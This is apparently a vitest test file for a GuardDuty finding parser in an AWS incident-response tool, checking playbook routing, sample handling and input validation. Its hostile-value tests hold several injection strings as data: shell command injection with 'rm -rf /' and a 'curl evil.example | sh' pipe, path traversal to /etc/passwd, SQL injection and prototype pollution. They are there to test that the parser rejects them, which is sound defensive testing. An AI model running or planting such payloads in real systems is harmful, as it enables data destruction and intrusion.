import { describe, expect, it } from 'vitest';
import { InvalidFindingError } from '../../../shared/errors/index.ts';
import { cleanText, databaseNameOf, incidentIdFor, MANUAL_RESOURCE_TYPES, parseFindingMessage, parseMessage, responderResourceType, type IgnoredFinding, type PlaybookName } from '../../../shared/findings/index.ts';
import { ACCOUNT_ID, INSTANCE_ID, REGION, fixtureBody, fixtureEvent, fixtureNames, manualEvent } from '../helpers/factories.ts';

interface Expected {
  playbook: PlaybookName;
  resourceId: string;
  findingType: string;
  severity: number;
  archived: boolean;
  sample: boolean;
  count: number;
  remoteIps: string[];
}

const ec2 = (findingType: string, severity: number, remoteIps: string[], resourceId = INSTANCE_ID, extra: Partial<Expected> = {}): Expected => ({
  playbook: 'ec2-instance',
  resourceId,
  findingType,
  severity,
  archived: false,
  sample: false,
  count: 1,
  remoteIps,
  ...extra,
});

// Expected values read off the fixtures by hand (see test/fixtures/guardduty/README.md).
// Every fixture but the sample becomes incidents; the sample is ignored (see IGNORED).
const EXPECTED: Record<string, Expected> = {
  'container-runtime-reverseshell.json': {
    playbook: 'container',
    resourceId: '5e2f8a1c4b7d0e3f6a9c2b5d8e1f4a7c0b3d6e9f2a5c8b1d4e7f0a3c6b9d2e5f',
    findingType: 'Execution:Runtime/ReverseShell',
    severity: 8,
    archived: false,
    sample: false,
    count: 1,
    remoteIps: ['192.0.2.145'],
  },
  'ec2-bitcointool-b-dns.json': ec2('CryptoCurrency:EC2/BitcoinTool.B!DNS', 8, [], 'i-0d4c3b2a1f0e98765'),
  'ec2-c-cactivity-b.json': ec2('Backdoor:EC2/C&CActivity.B', 8, ['198.51.100.23']),
  'ec2-runtime-newbinaryexecuted.json': ec2('Execution:Runtime/NewBinaryExecuted', 5, []),
  'ec2-sshbruteforce.json': ec2('UnauthorizedAccess:EC2/SSHBruteForce', 2, ['203.0.113.47']),
  'ecs-fargate-runtime-newbinaryexecuted.json': {
    playbook: 'ecs-task',
    resourceId: 'arn:aws:ecs:us-east-1:111122223333:task/payments-prod/3f6c0b2a9d8e4f7a8b1c2d3e4f5a6b7c',
    findingType: 'Execution:Runtime/NewBinaryExecuted',
    severity: 5,
    archived: false,
    sample: false,
    count: 1,
    remoteIps: [],
  },
  'edge-archived.json': ec2('Backdoor:EC2/C&CActivity.B!DNS', 8, [], 'i-0d4c3b2a1f0e98765', { archived: true, count: 3 }),
  'edge-low-severity.json': ec2('Recon:EC2/PortProbeUnprotectedPort', 2, ['203.0.113.9', '198.51.100.4']),
  'iam-role-instancecredentialexfiltration-outsideaws.json': {
    playbook: 'iam-role',
    resourceId: 'web-app-instance-role',
    findingType: 'UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS',
    severity: 8,
    archived: false,
    sample: false,
    count: 1,
    remoteIps: ['198.51.100.140'],
  },
  'iam-user-consoleloginsuccess-b.json': {
    playbook: 'iam-user',
    resourceId: 'alice.nguyen',
    findingType: 'UnauthorizedAccess:IAMUser/ConsoleLoginSuccess.B',
    severity: 5,
    archived: false,
    sample: false,
    count: 1,
    remoteIps: ['203.0.113.150'],
  },
  'iam-user-rootcredentialusage.json': {
    playbook: 'account',
    resourceId: ACCOUNT_ID,
    findingType: 'Policy:IAMUser/RootCredentialUsage',
    severity: 2,
    archived: false,
    sample: false,
    count: 1,
    remoteIps: ['203.0.113.201'],
  },
  'rds-anomalousbehavior-successfullogin.json': {
    playbook: 'rds-instance',
    resourceId: 'orders-aurora-instance-1',
    findingType: 'CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin',
    severity: 5,
    archived: false,
    sample: false,
    count: 1,
    remoteIps: ['203.0.113.88'],
  },
  's3-bucketblockpublicaccessdisabled.json': {
    playbook: 's3-bucket',
    resourceId: 'acme-prod-static-assets',
    findingType: 'Policy:S3/BucketBlockPublicAccessDisabled',
    severity: 2,
    archived: false,
    sample: false,
    count: 1,
    remoteIps: ['203.0.113.10'],
  },
  's3-exfiltration-anomalousbehavior.json': {
    playbook: 's3-bucket',
    resourceId: 'acme-prod-customer-exports',
    findingType: 'Exfiltration:S3/AnomalousBehavior',
    severity: 8,
    archived: false,
    sample: false,
    count: 1,
    remoteIps: ['192.0.2.201'],
  },
};

/** The fixtures GuardDuty publishes that no playbook acts on: ignored, never incidents. */
const IGNORED: Record<string, Pick<IgnoredFinding, 'why' | 'findingType' | 'resourceType'>> = {
  'edge-sample.json': { why: 'sample', findingType: 'Backdoor:EC2/C&CActivity.B', resourceType: 'Instance' },
};

const rejectionOf = (body: string): InvalidFindingError => {
  try {
    parseFindingMessage(body);
  } catch (error) {
    if (error instanceof InvalidFindingError) return error;
    throw error;
  }
  throw new Error('expected the message to be rejected, but it parsed');
};

/** What parseMessage made of a finding it ignored; fails the test for any other outcome. */
const ignoredOf = (body: string): IgnoredFinding => {
  const parsed = parseMessage(body);
  if (parsed.kind !== 'ignored') throw new Error(`expected the finding to be ignored, but it parsed as ${parsed.kind}`);
  return parsed.finding;
};

/** A fixture with `mutate` applied to a copy of its event. */
const variantOf = (file: string, mutate: (event: any) => void): string => {
  const event = fixtureEvent(file);
  mutate(event);
  return JSON.stringify(event);
};

/** The EC2 fixture with `mutate` applied to a copy of its event. */
const ec2Variant = (mutate: (event: any) => void): string => variantOf('ec2-c-cactivity-b.json', mutate);

/** What GuardDuty's CreateSampleFindings puts in an EC2 sample: placeholders where the ids would be. */
const withSamplePlaceholders = (e: any): void => {
  const details = e.detail.resource.instanceDetails;
  details.instanceId = 'i-99999999';
  details.networkInterfaces = [
    {
      networkInterfaceId: 'eni-bfcffe88',
      vpcId: 'GeneratedFindingVPCId',
      subnetId: 'GeneratedFindingSubnetId',
      securityGroups: [{ groupName: 'GeneratedFindingSecurityGroupName', groupId: 'GeneratedFindingSecurityId' }],
    },
  ];
  details.tags = [{ key: 'GeneratedFindingInstaceTag1', value: 'GeneratedFindingInstaceValue1' }];
};

describe('Function: parseFindingMessage', () => {
  describe('GuardDuty fixtures', () => {
    it('has an expectation for every fixture file', () => {
      // Prepare
      const files = fixtureNames();

      // Act
      const missing = files.filter((f) => !(f in EXPECTED) && !(f in IGNORED));

      // Assess
      expect(files).toHaveLength(15);
      expect(missing).toEqual([]);
    });

    it.each(Object.entries(EXPECTED))('routes %s to its playbook with the finding facts', (file, expected) => {
      // Prepare
      const event = fixtureEvent(file);

      // Act
      const incidents = parseFindingMessage(fixtureBody(file));

      // Assess
      expect(incidents).toHaveLength(1);
      const [incident] = incidents;
      expect(incident).toMatchObject({
        playbook: expected.playbook,
        origin: 'guardduty',
        findingId: event.detail.id,
        findingArn: event.detail.arn,
        findingType: expected.findingType,
        severity: expected.severity,
        archived: expected.archived,
        sample: expected.sample,
        count: expected.count,
        accountId: ACCOUNT_ID,
        region: 'us-east-1',
        partition: 'aws',
        eventId: event.id,
        eventTime: event.time,
        createdAt: event.detail.createdAt,
        updatedAt: event.detail.updatedAt,
      });
      expect(incident!.resource.id).toBe(expected.resourceId);
      // Firebreak names a principal as its own events do (IAMUser, IAMRole, Account), not GuardDuty's AccessKey.
      expect(incident!.resource.type).toBe(responderResourceType(event.detail.resource));
      expect(incident!.remoteIps).toEqual(expected.remoteIps);
      expect(incident!.incidentId).toBe(incidentIdFor(ACCOUNT_ID, event.detail.id, expected.resourceId));
    });

    it.each(Object.entries(IGNORED))('ignores %s: no incident, the finding named for the record', (file, expected) => {
      // Prepare
      const event = fixtureEvent(file);

      // Act
      const parsed = parseMessage(fixtureBody(file));
      const incidents = parseFindingMessage(fixtureBody(file));

      // Assess
      expect(parsed).toEqual({
        kind: 'ignored',
        finding: {
          why: expected.why,
          reason: expect.any(String),
          findingId: event.detail.id,
          findingType: expected.findingType,
          resourceType: expected.resourceType,
          accountId: ACCOUNT_ID,
          region: REGION,
          title: event.detail.title,
        },
      });
      expect(incidents).toEqual([]);
    });
  });

  describe('routing details', () => {
    it('keeps the ENI and VPC of an EC2 finding as hints', () => {
      // Act
      const [incident] = parseFindingMessage(fixtureBody('ec2-c-cactivity-b.json'));

      // Assess
      expect(incident!.resource.hints).toEqual({ eniIds: ['eni-0b7c1d2e3f4a5b6c7'], vpcId: 'vpc-0a1b2c3d4e5f60718' });
    });

    it('routes an EC2 finding whose VPC and subnet are placeholders, dropping the hints that are not ids', () => {
      // Prepare
      const body = ec2Variant((e) => {
        const [eni] = e.detail.resource.instanceDetails.networkInterfaces;
        eni.vpcId = 'GeneratedFindingVPCId';
        eni.subnetId = 'GeneratedFindingSubnetId';
        eni.securityGroups = [{ groupName: 'GeneratedFindingSecurityGroupName', groupId: 'GeneratedFindingSecurityId' }];
      });

      // Act
      const [incident] = parseFindingMessage(body);

      // Assess
      expect(incident!.resource).toEqual({ type: 'Instance', id: INSTANCE_ID, hints: { eniIds: ['eni-0b7c1d2e3f4a5b6c7'] } });
    });

    it('keeps the real ENIs and VPC and drops the hostile ones', () => {
      // Prepare
      const body = ec2Variant((e) => {
        e.detail.resource.instanceDetails.networkInterfaces = [
          { networkInterfaceId: 'eni-0123; rm -rf /', vpcId: '../../etc' },
          { networkInterfaceId: 42, vpcId: { $ne: null } },
          { networkInterfaceId: 'eni-0b7c1d2e3f4a5b6c7', vpcId: 'vpc-0a1b2c3d4e5f60718' },
          { networkInterfaceId: 'eni-0fedcba9876543210' },
        ];
      });

      // Act
      const [incident] = parseFindingMessage(body);

      // Assess
      expect(incident!.resource.hints).toEqual({ eniIds: ['eni-0b7c1d2e3f4a5b6c7', 'eni-0fedcba9876543210'], vpcId: 'vpc-0a1b2c3d4e5f60718' });
    });

    it('keeps the VPC of a network interface that has no ENI id (as some published findings have)', () => {
      // Prepare
      const body = ec2Variant((e) => {
        e.detail.resource.instanceDetails.networkInterfaces = [{ privateIpAddress: '10.66.66.39', subnetId: 'subnet-c396b8cf', vpcId: 'vpc-b5a96fcd' }];
      });

      // Act
      const [incident] = parseFindingMessage(body);

      // Assess
      expect(incident!.resource.hints).toEqual({ eniIds: [], vpcId: 'vpc-b5a96fcd' });
    });

    it.each([
      ['network interfaces that are not a list', (e: any) => (e.detail.resource.instanceDetails.networkInterfaces = 'eni-0b7c1d2e3f4a5b6c7')],
      ['a network interface that is not an object', (e: any) => e.detail.resource.instanceDetails.networkInterfaces.push(null)],
      ['tags as a map instead of key/value pairs', (e: any) => (e.detail.resource.instanceDetails.tags = { Name: 'web-frontend-01' })],
      ['tags that are null', (e: any) => (e.detail.resource.instanceDetails.tags = null)],
      ['additionalInfo that is a string', (e: any) => (e.detail.service.additionalInfo = 'sample')],
      ['additionalInfo that is a list', (e: any) => (e.detail.service.additionalInfo = [{ sample: true }])],
    ])('routes an EC2 finding with %s, which Firebreak never acts on', (_what, mutate) => {
      // Act
      const [incident] = parseFindingMessage(ec2Variant(mutate));

      // Assess
      expect(incident).toMatchObject({ playbook: 'ec2-instance', sample: false, resource: { type: 'Instance', id: INSTANCE_ID } });
    });

    it.each([
      ['a placeholder instance block', withSamplePlaceholders],
      ['instanceDetails that are null', (e: any) => (e.detail.resource.instanceDetails = null)],
      ['instanceDetails without an instance id', (e: any) => (e.detail.resource.instanceDetails = { instanceType: 't3.micro' })],
    ])('routes an S3 finding that carries %s to its bucket', (_what, mutate) => {
      // Prepare
      const body = variantOf('s3-exfiltration-anomalousbehavior.json', (e) => {
        e.detail.resource.instanceDetails = structuredClone(fixtureEvent('ec2-c-cactivity-b.json').detail.resource.instanceDetails);
        mutate(e);
      });

      // Act
      const [incident] = parseFindingMessage(body);

      // Assess
      expect(incident).toMatchObject({ playbook: 's3-bucket', resource: { type: 'S3Bucket', id: 'acme-prod-customer-exports', hints: {} } });
    });

    it("carries the S3 finding's actor (userType, userName, principal id, key) and the API it called as hints for the bucket playbook", () => {
      // Act
      const [exfiltration] = parseFindingMessage(fixtureBody('s3-exfiltration-anomalousbehavior.json'));
      const [bpa] = parseFindingMessage(fixtureBody('s3-bucketblockpublicaccessdisabled.json'));

      // Assess
      expect(exfiltration!.resource.hints).toEqual({
        userType: 'AssumedRole',
        userName: 'etl-export-role',
        principalId: 'AROA4EXAMPLEETLJOB01X:etl-nightly-session',
        accessKeyId: 'ASIA4EXAMPLEETLROLE5',
        api: fixtureEvent('s3-exfiltration-anomalousbehavior.json').detail.service.action.awsApiCallAction.api,
      });
      expect(bpa!.resource.hints).toMatchObject({ userType: 'AssumedRole', userName: 'AWSReservedSSO_AdministratorAccess_0f1e2d3c4b5a6978', api: 'PutBucketPublicAccessBlock' });
    });

    it('drops S3 actor hints that do not have the grammar of their kind', () => {
      // Prepare
      const body = variantOf('s3-exfiltration-anomalousbehavior.json', (e) => {
        e.detail.resource.accessKeyDetails = { userType: 'Assumed Role!', userName: 'GeneratedFindingUserName/../x', accessKeyId: 'GeneratedFindingAccessKeyId', principalId: 'a b' };
        e.detail.service.action.awsApiCallAction.api = 'Get Object;';
      });

      // Act
      const [incident] = parseFindingMessage(body);

      // Assess
      expect(incident!.resource.hints).toEqual({});
    });

    it('routes an assumed-role key finding to the role, keeping the session principal and temporary key', () => {
      // Act
      const [incident] = parseFindingMessage(fixtureBody('iam-role-instancecredentialexfiltration-outsideaws.json'));

      // Assess
      expect(incident!.resource.hints).toEqual({
        userType: 'AssumedRole',
        accessKeyId: 'ASIA4EXAMPLEWEBROLE3',
        principalId: 'AROA4EXAMPLEWEBROLE7Q:i-0a1b2c3d4e5f67890',
        instanceId: 'i-0a1b2c3d4e5f67890',
      });
      expect(incident!.resource.type).toBe('IAMRole');
    });

    it('routes a console login (no access key) to the IAM user without an access key hint', () => {
      // Act
      const [incident] = parseFindingMessage(fixtureBody('iam-user-consoleloginsuccess-b.json'));

      // Assess
      expect(incident!.resource.hints).toEqual({ userType: 'IAMUser', principalId: 'AIDA4EXAMPLEALICE7XQZ' });
    });

    it('routes a federated user key finding to the IAM user playbook', () => {
      // Prepare
      const body = JSON.stringify(
        Object.assign(fixtureEvent('iam-user-consoleloginsuccess-b.json'), {}),
      ).replace('"userType":"IAMUser"', '"userType":"FederatedUser"');

      // Act
      const [incident] = parseFindingMessage(body);

      // Assess
      expect(incident!.playbook).toBe('iam-user');
    });

    it('keeps the host instance of a standalone container as a hint', () => {
      // Act
      const [incident] = parseFindingMessage(fixtureBody('container-runtime-reverseshell.json'));

      // Assess
      expect(incident!.resource.hints).toEqual({
        instanceId: 'i-0f9e8d7c6b5a43210',
        containerName: 'legacy-php-app',
        image: 'docker.io/library/php:8.1-fpm',
        containerRuntime: 'docker',
      });
    });

    it('names the task of an ECSCluster finding ECSTask, with its cluster, definition, launch type and images as hints', () => {
      // Act
      const [incident] = parseFindingMessage(fixtureBody('ecs-fargate-runtime-newbinaryexecuted.json'));

      // Assess
      expect(incident!.playbook).toBe('ecs-task');
      expect(incident!.resource).toEqual({
        type: 'ECSTask',
        id: 'arn:aws:ecs:us-east-1:111122223333:task/payments-prod/3f6c0b2a9d8e4f7a8b1c2d3e4f5a6b7c',
        hints: {
          clusterArn: 'arn:aws:ecs:us-east-1:111122223333:cluster/payments-prod',
          taskDefinitionArn: 'arn:aws:ecs:us-east-1:111122223333:task-definition/payments-api:42',
          launchType: 'FARGATE',
          group: 'service:payments-api',
          images: ['111122223333.dkr.ecr.us-east-1.amazonaws.com/payments-api:1.14.2'],
          containerNames: ['payments-api'],
        },
      });
    });

    it('keeps the DB cluster, engine and suspected database user of an RDS login finding as hints', () => {
      // Act
      const [incident] = parseFindingMessage(fixtureBody('rds-anomalousbehavior-successfullogin.json'));

      // Assess
      expect(incident!.resource).toEqual({
        type: 'RDSDBInstance',
        id: 'orders-aurora-instance-1',
        hints: { dbClusterIdentifier: 'orders-aurora-cluster', engine: 'aurora-postgresql', dbiResourceId: 'db-7QX2KZJ4HV5NPM3LR8WBYC6DTA', dbUser: 'svc_reporting', database: 'orders' },
      });
      expect(incident!.remoteIps).toEqual(['203.0.113.88']);
    });

    it('keeps a hostile database user name, encoded, for the SQL to quote, but drops one with control characters', () => {
      // Arrange
      const event = fixtureEvent('rds-anomalousbehavior-successfullogin.json');
      event.detail.resource.rdsDbUserDetails.user = 'x"; DROP ROLE admin; --';
      const withNewline = fixtureEvent('rds-anomalousbehavior-successfullogin.json');
      withNewline.detail.resource.rdsDbUserDetails.user = 'x\nDROP';

      // Act
      const [quoted] = parseFindingMessage(JSON.stringify(event));
      const [dropped] = parseFindingMessage(JSON.stringify(withNewline));

      // Assess
      expect(quoted!.resource.hints.dbUser).toBeUndefined();
      expect(quoted!.resource.hints.dbUserBase64).toMatch(/^[A-Za-z0-9_-]+$/);
      expect(databaseNameOf(quoted!.resource.hints, 'dbUser')).toBe('x"; DROP ROLE admin; --');
      expect(databaseNameOf(dropped!.resource.hints, 'dbUser')).toBeUndefined();
    });

    it('opens one incident per bucket when an S3 finding names several buckets', () => {
      // Prepare
      const event = fixtureEvent('s3-exfiltration-anomalousbehavior.json');
      event.detail.resource.s3BucketDetails.push({ ...event.detail.resource.s3BucketDetails[0], name: 'acme-prod-second-bucket' });

      // Act
      const incidents = parseFindingMessage(JSON.stringify(event));

      // Assess
      expect(incidents.map((i) => [i.playbook, i.resource.id])).toEqual([
        ['s3-bucket', 'acme-prod-customer-exports'],
        ['s3-bucket', 'acme-prod-second-bucket'],
      ]);
      expect(new Set(incidents.map((i) => i.incidentId)).size).toBe(2);
    });

    it('rejects an S3 finding that names no bucket', () => {
      // Prepare
      const event = fixtureEvent('s3-exfiltration-anomalousbehavior.json');
      event.detail.resource.s3BucketDetails = [];

      // Act
      const error = rejectionOf(JSON.stringify(event));

      // Assess
      expect(error.reasons).toEqual(['resource.s3BucketDetails: no bucket named']);
    });

  });

  describe('findings no playbook handles', () => {
    it.each(['EKSCluster', 'Lambda', 'AttackSequence', 'RuntimeMonitoring'])('ignores a %s finding as unhandled, naming the resource type', (resourceType) => {
      // Prepare
      const body = ec2Variant((e) => (e.detail.resource.resourceType = resourceType));

      // Act
      const finding = ignoredOf(body);

      // Assess
      expect(finding).toEqual({
        why: 'unhandled',
        reason: `resource type "${resourceType}" has no playbook`,
        findingId: 'c6e8a0b2d4f6b8c0e2a4d6f8a0c2e4b6',
        findingType: 'Backdoor:EC2/C&CActivity.B',
        resourceType,
        accountId: ACCOUNT_ID,
        region: REGION,
        title: expect.stringContaining('command and control'),
      });
      expect(parseFindingMessage(body)).toEqual([]);
    });

    it.each(['AWSService', 'GeneratedFindingUserType', 'Role'])('ignores an access key finding with userType %s as unhandled', (userType) => {
      // Prepare
      const body = variantOf('iam-user-consoleloginsuccess-b.json', (e) => (e.detail.resource.accessKeyDetails.userType = userType));

      // Act
      const finding = ignoredOf(body);

      // Assess
      expect(finding).toMatchObject({ why: 'unhandled', resourceType: 'AccessKey', reason: `access key findings for userType "${userType}" have no playbook` });
    });

    it('ignores an access key finding that names no user type, rather than guessing a playbook', () => {
      // Prepare
      const body = variantOf('iam-user-consoleloginsuccess-b.json', (e) => delete e.detail.resource.accessKeyDetails);

      // Act
      const finding = ignoredOf(body);

      // Assess
      expect(finding).toMatchObject({ why: 'unhandled', resourceType: 'AccessKey' });
    });

    it('cuts a hostile user type to 40 characters in the reason', () => {
      // Prepare
      const body = variantOf('iam-user-consoleloginsuccess-b.json', (e) => (e.detail.resource.accessKeyDetails.userType = `X${'y'.repeat(5000)}`));

      // Act
      const finding = ignoredOf(body);

      // Assess
      expect(finding.reason).toBe(`access key findings for userType "X${'y'.repeat(39)}" have no playbook`);
    });

    it('still rejects an unhandled finding whose account, finding id or type is malformed: the record is keyed on them', () => {
      // Prepare
      const body = ec2Variant((e) => {
        e.detail.resource.resourceType = 'EKSCluster';
        e.detail.accountId = '1234';
      });

      // Act
      const error = rejectionOf(body);

      // Assess
      expect(error.reasons).toEqual(['detail.accountId: account id must be 12 digits']);
    });
  });

  describe('sample, archived and redelivered findings', () => {
    it.each([
      ['additionalInfo.sample true', (e: any) => (e.detail.service.additionalInfo = { sample: true })],
      ['additionalInfo.sample "true" (as some exports write it)', (e: any) => (e.detail.service.additionalInfo = { sample: 'true' })],
      ['a [SAMPLE] title', (e: any) => (e.detail.title = '[SAMPLE] EC2 instance is communicating with a C&C server')],
    ])('ignores a sample finding marked by %s alone', (_what, mutate) => {
      // Prepare
      const body = ec2Variant(mutate);

      // Act
      const finding = ignoredOf(body);

      // Assess
      expect(finding).toMatchObject({ why: 'sample', findingId: 'c6e8a0b2d4f6b8c0e2a4d6f8a0c2e4b6', resourceType: 'Instance' });
      expect(parseFindingMessage(body)).toEqual([]);
    });

    it('ignores a sample whose marker survives only in additionalInfo.value, as an SDK keeps it', () => {
      // Prepare
      const body = ec2Variant((e) => (e.detail.service.additionalInfo = { value: '{"unusual":{"userNames":["GeneratedFindingUserName"]},"sample":true}', type: 'default' }));

      // Act
      const finding = ignoredOf(body);

      // Assess
      expect(finding.why).toBe('sample');
    });

    it.each([
      ['a value whose sample is false', '{"sample":false}'],
      ['a value that mentions samples but has no marker', '{"threatName":"sample-malware"}'],
      ['a value that is not JSON', '{sample: true'],
      ['a value that is JSON null', 'null'],
    ])('routes a finding with %s like any other', (_what, value) => {
      // Act
      const [incident] = parseFindingMessage(ec2Variant((e) => (e.detail.service.additionalInfo = { value, type: 'default' })));

      // Assess
      expect(incident).toMatchObject({ playbook: 'ec2-instance', sample: false });
    });

    it('does not take additionalInfo.sample "false" for a sample', () => {
      // Act
      const [incident] = parseFindingMessage(ec2Variant((e) => (e.detail.service.additionalInfo = { sample: 'false' })));

      // Assess
      expect(incident).toMatchObject({ playbook: 'ec2-instance', sample: false });
    });

    it('ignores a CreateSampleFindings sample with placeholder VPC, subnet and i-99999999 instead of rejecting it', () => {
      // Prepare
      const body = ec2Variant((e) => {
        withSamplePlaceholders(e);
        e.detail.service.additionalInfo = { sample: true, type: 'default', value: '{"sample":true}' };
      });

      // Act
      const finding = ignoredOf(body);

      // Assess
      expect(finding).toMatchObject({ why: 'sample', resourceType: 'Instance', accountId: ACCOUNT_ID, region: REGION });
    });

    it.each([
      ['an instance id that is not one', (e: any) => (e.detail.resource.instanceDetails.instanceId = 'GeneratedFindingInstanceId')],
      ['no instance block at all', (e: any) => delete e.detail.resource.instanceDetails],
      ['an unsupported user type on an access key', (e: any) => (e.detail.resource.resourceType = 'AccessKey')],
    ])('ignores a sample with %s: a sample is never routed', (_what, mutate) => {
      // Prepare
      const body = variantOf('edge-sample.json', mutate);

      // Act
      const finding = ignoredOf(body);

      // Assess
      expect(finding.why).toBe('sample');
    });

    it('ignores a sample that names several S3 buckets once, opening no incident', () => {
      // Prepare
      const body = variantOf('s3-exfiltration-anomalousbehavior.json', (e) => {
        e.detail.service.additionalInfo = { sample: true };
        e.detail.resource.s3BucketDetails.push({ name: 'bucketName' });
      });

      // Act
      const parsed = parseMessage(body);

      // Assess
      expect(parsed).toMatchObject({ kind: 'ignored', finding: { why: 'sample', resourceType: 'S3Bucket' } });
    });

    it('strips control characters from the title of an ignored finding', () => {
      // Prepare
      const body = variantOf('edge-sample.json', (e) => (e.detail.title = '[SAMPLE] evil\u001b[2J\ntitle'));

      // Act
      const finding = ignoredOf(body);

      // Assess
      expect(finding.title).toBe('[SAMPLE] evil [2J title');
    });

    it('keeps the same incident id when GuardDuty re-publishes the finding with a new envelope and a higher count', () => {
      // Prepare
      const first = fixtureBody('ec2-c-cactivity-b.json');
      const again = ec2Variant((e) => {
        e.id = '99999999-5b6c-4d7e-8f9a-0b1c2d3e4f5a';
        e.time = '2025-06-19T20:40:09Z';
        e.detail.service.count = 7;
        e.detail.updatedAt = '2025-06-19T20:35:02.877Z';
      });

      // Act
      const [a] = parseFindingMessage(first);
      const [b] = parseFindingMessage(again);

      // Assess
      expect(b!.incidentId).toBe(a!.incidentId);
      expect(b!.eventId).not.toBe(a!.eventId);
      expect(b!.count).toBe(7);
    });

    it('gives a different incident to the same finding about another resource', () => {
      // Prepare
      const other = ec2Variant((e) => {
        e.detail.resource.instanceDetails.instanceId = 'i-0fffffffffffffff0';
      });

      // Act
      const [a] = parseFindingMessage(fixtureBody('ec2-c-cactivity-b.json'));
      const [b] = parseFindingMessage(other);

      // Assess
      expect(b!.incidentId).not.toBe(a!.incidentId);
    });
  });

  describe('rejections', () => {
    it('rejects a body that is not JSON', () => {
      // Act
      const error = rejectionOf('{"source": "aws.guardduty",');

      // Assess
      expect(error.reasons).toEqual(['message body is not JSON']);
      expect(error.retryable).toBe(false);
      expect(error.cause).toBeInstanceOf(SyntaxError);
    });

    it('rejects an event from another source', () => {
      // Act
      const error = rejectionOf(ec2Variant((e) => (e.source = 'aws.securityhub')));

      // Assess
      expect(error.reasons.join()).toContain('source must be aws.guardduty, firebreak.manual, firebreak.handoff, firebreak.redrive or firebreak.resume');
    });

    it('rejects a GuardDuty event that is not a finding (another detail-type)', () => {
      // Act
      const error = rejectionOf(ec2Variant((e) => (e['detail-type'] = 'GuardDuty Runtime Protection Unhealthy')));

      // Assess
      expect(error.reasons).toEqual(['detail-type "GuardDuty Runtime Protection Unhealthy" is not a GuardDuty finding']);
    });

    it.each([
      ['the envelope id', (e: any) => delete e.id, 'event.id'],
      ['the finding id', (e: any) => delete e.detail.id, 'detail.id'],
      ['the finding type', (e: any) => delete e.detail.type, 'detail.type'],
      ['the account id', (e: any) => delete e.detail.accountId, 'detail.accountId'],
      ['the region', (e: any) => delete e.detail.region, 'detail.region'],
      ['the severity', (e: any) => delete e.detail.severity, 'detail.severity'],
      ['the resource', (e: any) => delete e.detail.resource, 'detail.resource'],
      ['the service', (e: any) => delete e.detail.service, 'detail.service'],
      ['the instance id', (e: any) => delete e.detail.resource.instanceDetails.instanceId, 'resource.instanceDetails.instanceId'],
      ['the instance block', (e: any) => delete e.detail.resource.instanceDetails, 'resource.instanceDetails.instanceId'],
    ])('rejects a finding without %s, naming the field', (_what, mutate, field) => {
      // Act
      const error = rejectionOf(ec2Variant(mutate));

      // Assess
      expect(error.reasons.some((r) => r.startsWith(`${field}:`))).toBe(true);
    });

    it.each([
      ['an account id that is not 12 digits', (e: any) => (e.detail.accountId = '12345678910'), /^detail\.accountId: account id must be 12 digits$/],
      ['a region that is not one', (e: any) => (e.detail.region = 'us-east-1; rm -rf /'), /^detail\.region: not an AWS region name$/],
      ['a finding type that is not one', (e: any) => (e.detail.type = 'Backdoor EC2 C&C'), /^detail\.type: not a GuardDuty finding type$/],
      ['a resource type with markup', (e: any) => (e.detail.resource.resourceType = '<Instance>'), /^detail\.resource\.resourceType:/],
    ])('rejects a finding with %s', (_what, mutate, reason) => {
      // Act
      const error = rejectionOf(ec2Variant(mutate));

      // Assess
      expect(error.reasons[0]).toMatch(reason);
    });

    it('rejects a severity outside 0-10', () => {
      // Act
      const error = rejectionOf(ec2Variant((e) => (e.detail.severity = 11)));

      // Assess
      expect(error.reasons[0]).toMatch(/^detail\.severity:/);
    });
  });

  describe('hostile values', () => {
    it.each([
      ['a shell command', 'i-123; rm -rf /'],
      ['a path traversal', '../../etc/passwd'],
      ['unicode look-alikes', 'i-0a1b2c3d4e5f6789\u0660'],
      ['a 10 KB string', `i-${'a'.repeat(10 * 1024)}`],
    ])('rejects an instance id that is %s', (_what, instanceId) => {
      // Act
      const error = rejectionOf(ec2Variant((e) => (e.detail.resource.instanceDetails.instanceId = instanceId)));

      // Assess
      expect(error.reasons[0]).toMatch(/^resource\.instanceDetails\.instanceId: not an EC2 instance id/);
    });

    it.each([
      ['a path traversal', '../../etc'],
      ['a shell command', 'alice; curl evil.example | sh'],
      ['unicode', 'alïce'],
      ['a 10 KB string', 'a'.repeat(10 * 1024)],
    ])('rejects an IAM user name that is %s', (_what, userName) => {
      // Prepare
      const event = fixtureEvent('iam-user-consoleloginsuccess-b.json');
      event.detail.resource.accessKeyDetails.userName = userName;

      // Act
      const error = rejectionOf(JSON.stringify(event));

      // Assess
      expect(error.reasons[0]).toMatch(/^resource\.accessKeyDetails\.userName:/);
    });

    it.each([
      ['a path traversal', '../../etc'],
      ['upper case and spaces', 'My Bucket'],
    ])('rejects a bucket name that is %s', (_what, name) => {
      // Prepare
      const event = fixtureEvent('s3-exfiltration-anomalousbehavior.json');
      event.detail.resource.s3BucketDetails[0].name = name;

      // Act
      const error = rejectionOf(JSON.stringify(event));

      // Assess
      expect(error.reasons[0]).toMatch(/^resource\.s3BucketDetails\[\]\.name: not an S3 bucket name/);
    });

    it('rejects an instance id that is not a string', () => {
      // Act
      const error = rejectionOf(ec2Variant((e) => (e.detail.resource.instanceDetails.instanceId = 12345)));

      // Assess
      expect(error.reasons[0]).toMatch(/^resource\.instanceDetails\.instanceId: .*expected string/);
    });

    it('rejects a finding id with path characters', () => {
      // Act
      const error = rejectionOf(ec2Variant((e) => (e.detail.id = '../../etc')));

      // Assess
      expect(error.reasons[0]).toMatch(/^detail\.id: not a GuardDuty finding id/);
    });

    it('truncates a 10 KB title and strips its control characters instead of trusting it', () => {
      // Prepare
      const body = ec2Variant((e) => (e.detail.title = `evil\u0000\u001b[31m${'x'.repeat(10 * 1024)}`));

      // Act
      const [incident] = parseFindingMessage(body);

      // Assess
      expect(incident!.title).toHaveLength(512);
      expect(incident!.title.startsWith('evil  [31m')).toBe(true);
    });

    it('ignores a __proto__ key in the finding without polluting prototypes', () => {
      // Prepare
      const body = fixtureBody('ec2-c-cactivity-b.json').replace('"resource": {', '"__proto__": {"polluted": true, "resourceType": "S3Bucket"}, "resource": {');

      // Act
      const [incident] = parseFindingMessage(body);

      // Assess
      expect(incident!.playbook).toBe('ec2-instance');
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.getPrototypeOf(incident)).toBe(Object.prototype);
    });

    it('rejects __proto__ as a resource type', () => {
      // Act
      const error = rejectionOf(ec2Variant((e) => (e.detail.resource.resourceType = '__proto__')));

      // Assess
      expect(error.reasons[0]).toMatch(/^detail\.resource\.resourceType:/);
